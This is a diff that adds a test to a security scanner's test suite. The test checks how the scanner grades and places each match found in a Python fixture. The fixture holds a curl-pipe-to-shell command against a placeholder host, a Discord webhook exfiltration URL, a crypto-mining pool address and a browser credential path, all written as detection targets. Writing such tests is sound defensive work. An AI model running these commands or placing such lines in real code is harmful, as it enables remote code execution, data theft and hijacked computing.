@@ -170,6 +170,38 @@ describe('security scan', () => {
     expect(summary(findings)).toEqual([['dynamic_code_execution', 3, 'medium']]);
   });
 
+  it('says a text match in a function body runs when the function is called, unless import-time code calls it', async () => {
+    const source = [
+      'import os',
+      '',
+      'class Fetcher:',
+      '    def run(self):',
+      '        os.system("curl -s https://example.invalid/a.sh | sh")',
+      '',
+      'def report():',
+      '    return "https://discord.com/api/webhooks/1234567890/abcdefghijklmnopqrstuvwxyz0123"',
+      '',
+      'def setup():',
+      '    return "stratum+tcp://pool.example.invalid:3333"',
+      '',
+      'setup()',
+      'TARGET = "Google/Chrome/User Data"',
+    ].join('\n');
+    const findings = await scanWith({ 'extras/tools.py': source });
+    const text = findings.filter((f) => f.scanner.startsWith('text-')).sort((a, b) => a.line_number - b.line_number);
+    expect(text.map((f) => [f.issue_type, f.line_number, f.grade, f.context])).toEqual([
+      ['download_and_execute', 5, 'hold', 'runtime'],
+      ['exfiltration', 8, 'hold', 'runtime'],
+      ['crypto_miner', 11, 'hold', 'import'],
+      ['credential_access', 14, 'hold', 'import'],
+    ]);
+    // A script nothing imports stays that, wherever in it the match is.
+    const script = await scanWith({ 'extras/tools.py': source }, { imported: false });
+    expect(new Set(script.filter((f) => f.scanner.startsWith('text-')).map((f) => f.context))).toEqual(
+      new Set(['unimported']),
+    );
+  });
+
   it('reports Python files too large to scan', async () => {
     // Varied lines: a megabyte of one repeated character would (rightly) be refused as a zip bomb.
     const lines = Array.from({ length: 60_000 }, (_, i) => `TABLE_${i} = ${(i * 2654435761) % 4294967296}`);
